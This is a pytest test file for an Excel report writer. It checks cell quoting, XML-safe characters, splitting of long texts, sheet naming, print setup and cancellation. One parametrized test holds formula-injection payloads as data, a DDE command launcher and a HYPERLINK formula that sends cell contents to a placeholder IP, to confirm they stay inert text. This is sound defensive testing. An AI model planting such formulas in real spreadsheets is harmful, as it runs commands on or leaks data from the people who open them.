"""Whatever stands in a record comes out of Excel as it went in: safe, whole, and nothing half-written is left behind."""

import re
import warnings
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from tests.reports.books import DAY, a_report, a_table, read, records, texts, written
from wpstracker.domain.partial_date import PartialDate
from wpstracker.domain.problems import Cancelled, KnownError
from wpstracker.domain.vocabularies import EventStatus
from wpstracker.figures.columns import Column, Type
from wpstracker.reports.cells import LONGEST, clean, pieces
from wpstracker.reports.naming import legal_titles
from wpstracker.reports.workbook import write

REMARK = "… (continued on the sheet “Long texts”)"


def cells(path: Path, sheet: str = "Things") -> list[Any]:
    """The cells of the first column below its header, as openpyxl sees them."""
    return [row[0] for row in load_workbook(path)[sheet].iter_rows(min_row=2)]


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("=1+1", id="E01"),
        pytest.param("=cmd|'/c calc'!A1", id="E02"),
        pytest.param('=HYPERLINK("http://192.0.2.1/?"&A1,"Open")', id="E03"),
        pytest.param("+254 700 000 000", id="E04 a telephone number"),
        pytest.param("-5", id="E04 a number typed as text"),
        pytest.param("@SUM(A1:A9)", id="E04 an old formula"),
        pytest.param("\t=1+1", id="E06"),
        pytest.param("＝1+1", id="E07"),
        pytest.param("#N/A", id="E08"),
        pytest.param("TRUE", id="a word that Excel knows"),
        pytest.param("2024-01-01", id="a date typed as text"),
    ],
)
def test_text_stays_text_whatever_it_looks_like(tmp_path: Path, text: str) -> None:
    path = written(tmp_path, texts(text))

    (cell,) = cells(path)
    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix == (text[0] in "=+-@\t＝")
    assert read(path, "Things")[1] == [text]
    assert "<f>" not in ZipFile(path).read("xl/worksheets/sheet1.xml").decode()


def test_E06_a_carriage_return_before_a_formula_becomes_a_new_line(tmp_path: Path) -> None:
    (cell,) = cells(written(tmp_path, texts("\r=1+1")))
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("\n=1+1", "s", True)


def test_E05_a_number_stays_a_number(tmp_path: Path) -> None:
    column = Column("n", "Number", Type.COUNT)
    assert read(written(tmp_path, a_table([{"n": -5}, {"n": None}, {"n": 0}], [column])), "Things")[1:] == [[-5.0], [""], [0.0]]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param("one\vtwo", "one two", id="E09"),
        pytest.param("one\0two", "one\ufffdtwo", id="E10"),
        pytest.param("one\ud800two", "one\ufffdtwo", id="E11"),
        pytest.param("bell\x07, escape\x1b, \ufffe", "bell\ufffd, escape\ufffd, \ufffd", id="other control characters"),
    ],
)
def test_what_xml_forbids_is_replaced(tmp_path: Path, text: str, shown: str) -> None:
    assert read(written(tmp_path, texts(text)), "Things")[1] == [shown]


def test_E12_a_long_text_goes_on_on_a_sheet_of_its_own(tmp_path: Path) -> None:
    text = "".join(f"Sentence {number}. " for number in range(4000))
    columns = (Column("reference", "Reference", Type.TEXT), Column("text", "Text", Type.LONG_TEXT))
    path = written(tmp_path, a_table([{"reference": "KZ-1", "text": text}], columns))

    head = records(path, "Things")[0]["Text"]
    rest = records(path, "Long texts")
    assert head.endswith(REMARK)
    assert head.removesuffix(REMARK) + "".join(row["Text"] for row in rest) == text
    assert max(len(head), *(len(row["Text"]) for row in rest)) <= LONGEST
    assert [(row["Sheet"], row["Reference"], row["Column"], row["Part"]) for row in rest] == [("Things", "KZ-1", "Text", 2.0)]


def test_a_text_that_just_fits_is_left_whole(tmp_path: Path) -> None:
    path = written(tmp_path, texts("x" * LONGEST))
    assert read(path, "Things")[1] == ["x" * LONGEST]
    assert load_workbook(path).sheetnames == ["Things"]


def test_E13_sheets_have_legal_names() -> None:
    asked = ["Plans: 2024/25 [draft]?", "x" * 40, "X" * 40, "'quoted'", "***", "😀" * 20]
    found = dict(zip(asked, legal_titles(asked), strict=True))
    assert found["Plans: 2024/25 [draft]?"] == "Plans  2024 25  draft"
    assert found["'quoted'"] == "quoted"
    assert len({name.casefold() for name in found.values()}) == len(asked)
    for name in found.values():
        assert 0 < len(name.encode("utf-16-le")) // 2 <= 31
        assert not re.search(r"[\[\]:*?/\\]", name)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        pytest.param(float("nan"), "nan", id="E15 no number"),
        pytest.param(float("inf"), "inf", id="E15 without end"),
        pytest.param(12345678901234567890, "12345678901234567890", id="E16"),
        pytest.param(datetime(2024, 1, 2, 3, 4, tzinfo=UTC), pytest.approx(45293.12777777), id="E14 without its zone"),
        pytest.param(date(1899, 5, 6), "06.05.1899", id="E17"),
        pytest.param(1.5, 1.5, id="a plain number"),
    ],
)
def test_values_excel_has_no_word_for_are_written_as_text(tmp_path: Path, value: object, shown: object) -> None:
    column = Column("v", "Value", Type.NUMBER)
    assert read(written(tmp_path, a_table([{"v": value}], [column])), "Things")[1:] == [[shown]]


def test_a_date_is_a_date_where_the_day_is_known(tmp_path: Path) -> None:
    column = Column("when", "When", Type.DATE)
    dates = [PartialDate(2023, 9, 14), PartialDate(2007, 6), None, PartialDate(2006), PartialDate(None, 8, 3), PartialDate(1325, 1, 2)]
    path = written(tmp_path, a_table([{"when": value} for value in dates], [column]))

    assert [row[0] for row in read(path, "Things")[1:]] == [
        date(2023, 9, 14),
        "June 2007",
        "",
        "2006",
        "3 August (year not stated)",
        "02.01.1325",  # E17
    ]
    assert cells(path)[0].number_format == "dd.mm.yyyy"


def test_codes_are_written_in_words(tmp_path: Path) -> None:
    columns = (Column("s", "Status", Type.CHOICE, EventStatus), Column("c", "Country", Type.COUNTRY), Column("f", "Flag", Type.FLAG))
    path = written(tmp_path, a_table([{"s": "held", "c": "KZ", "f": True}, {"s": "gone?", "c": "XX", "f": False}], columns))
    assert read(path, "Things")[1:] == [["Held", "Kazakhstan", "yes"], ["gone?", "XX", "no"]]


def test_an_excel_escape_is_kept_as_it_was_typed(tmp_path: Path) -> None:
    path = written(tmp_path, texts("_x0041_ and _x"))
    assert "_x005F_x0041_ and _x<" in ZipFile(path).read("xl/worksheets/sheet1.xml").decode()


@given(st.lists(st.text(min_size=1), max_size=6))
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_is_read_back(tmp_path: Path, given_texts: list[str]) -> None:
    path = written(tmp_path, texts("first", *given_texts))
    expected = [clean(text).replace("_x", "_y") for text in given_texts]
    assert [str(row[0]).replace("_x005F", "").replace("_x", "_y") for row in read(path, "Things")[2:]] == expected


@given(st.text(max_size=40), st.integers(8, 20))
def test_the_parts_of_a_text_are_the_text(text: str, longest: int) -> None:
    found = pieces(text, longest)
    assert "".join(found) == text
    assert all(len(part.encode("utf-16-le", "surrogatepass")) // 2 <= longest for part in found)


def test_the_rows_are_what_plain_openpyxl_would_write(tmp_path: Path) -> None:
    """The streamed rows against the ordinary way, cell by cell, so that a change in openpyxl is noticed."""
    columns = (Column("t", "Text", Type.LONG_TEXT), Column("n", "Number", Type.NUMBER), Column("d", "Day", Type.DATE))
    rows = [{"t": f"Row {n} <&> “ё”\nline", "n": n / 4, "d": PartialDate(2024, 1 + n % 12, 1 + n % 28)} for n in range(450)]
    path = written(tmp_path, a_table(rows, columns))

    plain = Workbook()
    plain.active.append(["Text", "Number", "Day"])  # type: ignore[union-attr]
    for row in rows:
        when = row["d"]
        assert isinstance(when, PartialDate) and when.earliest()
        plain.active.append([row["t"], row["n"], datetime.combine(when.earliest() or DAY, datetime.min.time())])  # type: ignore[union-attr]
    plain.save(tmp_path / "plain.xlsx")
    ours, theirs = (list(load_workbook(found).worksheets[0].iter_rows()) for found in (path, tmp_path / "plain.xlsx"))
    assert [[(c.coordinate, c.value, c.data_type) for c in row] for row in ours] == [
        [(c.coordinate, c.value, c.data_type) for c in row] for row in theirs
    ]


def test_a_table_covers_its_rows_and_names_its_columns(tmp_path: Path) -> None:
    columns = (Column("a", "Name", Type.TEXT), Column("b", "name", Type.TEXT), Column("c", "Name", Type.COUNT))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        sheet = load_workbook(written(tmp_path, a_table([{"a": "x", "c": 1}] * 3, columns, fixed=2)))["Things"]

    table = sheet.tables["Things"]
    assert table.ref == table.autoFilter.ref == "A1:C4"
    assert table.column_names == [cell.value for cell in sheet[1]] == ["Name", "name (2)", "Name (3)"]
    assert sheet.freeze_panes == "C2"
    assert sheet.dimensions == "A1:C4"


def test_an_empty_table_has_its_row_and_says_so(tmp_path: Path) -> None:
    sheet = load_workbook(written(tmp_path, texts()))["Things"]
    assert sheet.tables["Things"].ref == "A1:A2"
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [None, "Nothing here."]


def test_pages_are_ready_to_print(tmp_path: Path) -> None:
    columns = [Column(str(number), f"Column {number}", Type.LONG_TEXT) for number in range(12)]
    sheet: Any = load_workbook(written(tmp_path, a_table([{str(number): "text " * 60 for number in range(12)}], columns, title="R&D")))[
        "R&D"
    ]

    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (4, 0)
    assert (sheet.print_title_rows, sheet.print_title_cols) == ("$1:$1", "$A:$A")
    assert sheet.oddHeader.right.text == "R&&D"
    assert (sheet.oddFooter.left.text, sheet.oddFooter.right.text) == ("01.06.2024", "Page &P of &N")


def test_a_long_text_does_not_make_its_row_endless(tmp_path: Path) -> None:
    column = Column("t", "Text", Type.LONG_TEXT)
    sheet = load_workbook(written(tmp_path, a_table([{"t": "word " * 900}, {"t": "two\nlines"}, {"t": "one"}], [column])))["Things"]
    assert [sheet.row_dimensions[number].height for number in (2, 3, 4)] == [210, 30, None]
    assert sheet.column_dimensions["A"].width == 60


def test_a_text_as_long_as_its_column_is_wide_has_room_to_wrap(tmp_path: Path) -> None:
    sheet = load_workbook(written(tmp_path, texts("Организации, возможно внесённые дважды", "short")))["Things"]
    assert [sheet.row_dimensions[number].height for number in (2, 3)] == [30, None]


def test_no_person_is_named_in_the_properties(tmp_path: Path) -> None:
    about = load_workbook(written(tmp_path, texts())).properties
    assert (about.title, about.creator, about.lastModifiedBy, about.language) == ("A report", "WPS Tracker", None, "en")


# -- the file itself


def test_progress_grows_to_one(tmp_path: Path) -> None:
    seen: list[float] = []
    write(a_report(texts(*range(900)), texts_named("More", 300)), tmp_path / "b.xlsx", seen.append)
    assert seen == sorted(seen)
    assert seen[-1] == 1 and len(seen) > 6


def test_E21_nothing_is_left_when_it_is_stopped_half_way(tmp_path: Path) -> None:
    target = tmp_path / "b.xlsx"
    target.write_bytes(b"old")

    def stop(share: float) -> None:
        if share >= 0.5:
            raise Cancelled

    with pytest.raises(Cancelled):
        write(a_report(texts(*range(2000))), target, stop)
    assert [path.name for path in tmp_path.iterdir()] == ["b.xlsx"]
    assert target.read_bytes() == b"old"


def test_E20_a_folder_that_is_gone_is_named(tmp_path: Path) -> None:
    with pytest.raises(KnownError, match="folder .*gone does not exist"):
        write(a_report(texts()), tmp_path / "gone" / "b.xlsx")


def texts_named(name: str, number: int) -> Any:
    """A second sheet."""
    return a_table([{"text": "x"}] * number, [Column("text", "Text", Type.TEXT)], name=name, title=name)
